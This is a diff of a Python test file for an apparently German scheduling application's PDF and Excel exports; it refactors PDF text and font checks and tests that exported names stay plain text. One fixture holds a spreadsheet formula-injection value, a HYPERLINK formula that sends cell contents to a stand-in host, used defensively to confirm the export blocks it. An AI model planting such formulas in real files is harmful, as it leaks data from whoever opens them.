@@ -20,6 +20,7 @@ from sqlalchemy import update
 from core.cli import main
 from core.persistence.modelle import Arbeitgeber, Assistenzkraft
 from tests.core.dienstplan.conftest import Haushalt, plane_seed_januar
+from tests.pdf import pdf_schriften, pdf_text
 
 LINK = '=HYPERLINK("http://x.example/?d="&A1,"klick")'
 FEINDLICH = {  # assistant → (Vorname, Nachname); the employer is "=1+1"
@@ -74,12 +75,13 @@ def test_excel_export_enthaelt_keine_formel(
     assert art == "dienstplan" or zahlen  # hours stay numbers in the Stundenzettel
 
 
+@pytest.mark.libreoffice
 def test_libreoffice_zeigt_den_namen_nicht_den_link(
     feindlich: Haushalt, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """The finding as seen in LibreOffice: the name cell shows the text, it is no live HYPERLINK."""
     soffice = shutil.which("soffice") or shutil.which("libreoffice")
-    assert soffice, "LibreOffice (soffice) fehlt: .ci/run installiert libreoffice-calc-nogui"
+    assert soffice, "nur mit @pytest.mark.libreoffice aufrufen"
     quelle = _export(feindlich, "dienstplan", tmp_path / "plan.xlsx", capsys)
     nach_csv = "csv:Text - txt - csv (StarCalc):44,34,76"  # 76: LibreOffice's code for UTF-8
     profil = f"-env:UserInstallation=file://{tmp_path / 'lo'}"
@@ -98,13 +100,12 @@ def test_pdf_zeigt_namen_in_allen_schriften(
     _benenne(haushalt, SCHRIFTEN, "Ольга Иванова")
     for art in ("dienstplan", "stundenzettel"):
         pdf = _export(haushalt, art, tmp_path / f"{art}.pdf", capsys)
-        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+        text = pdf_text(pdf)
         for name in ("Łukasz", "Ayşe", "Ольга"):
             assert name in text, (art, name)
         assert "Đặng" in text or art == "dienstplan"  # the Dienstplan prints first names only
-        schriften = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
-        eingebettet = [z for z in schriften.splitlines() if "DejaVuSans" in z]
-        assert eingebettet and all(" yes " in z for z in eingebettet)  # embedded (and subset)
+        dejavu = {name: ja for name, ja in pdf_schriften(pdf).items() if "DejaVuSans" in name}
+        assert dejavu and all(dejavu.values()), pdf_schriften(pdf)  # embedded (and subset)
 
 
 def test_zehntausend_zeichen_name_bricht_keinen_export_ab(
@@ -116,8 +117,8 @@ def test_zehntausend_zeichen_name_bricht_keinen_export_ab(
     for art, endung in (("dienstplan", "pdf"), ("stundenzettel", "pdf"), ("stundenzettel", "xlsx")):
         ziel = _export(haushalt, art, tmp_path / f"{art}.{endung}", capsys)
         assert ziel.stat().st_size > 1000
-    text = subprocess.run(["pdftotext", str(tmp_path / "stundenzettel.pdf"), "-"], capture_output=True, text=True)
-    assert "Łukasz xxxx" in text.stdout and "…" in text.stdout  # cut with an ellipsis, not dropped
+    text = pdf_text(tmp_path / "stundenzettel.pdf")
+    assert "Łukasz xxxx" in text and "…" in text  # cut with an ellipsis, not dropped
     for datei in ("Personalbogen", "Auskunft"):
         code = main(
             ["personalbogen", "--db", str(haushalt.db.pfad), "--assistenzkraft", "Łukasz",
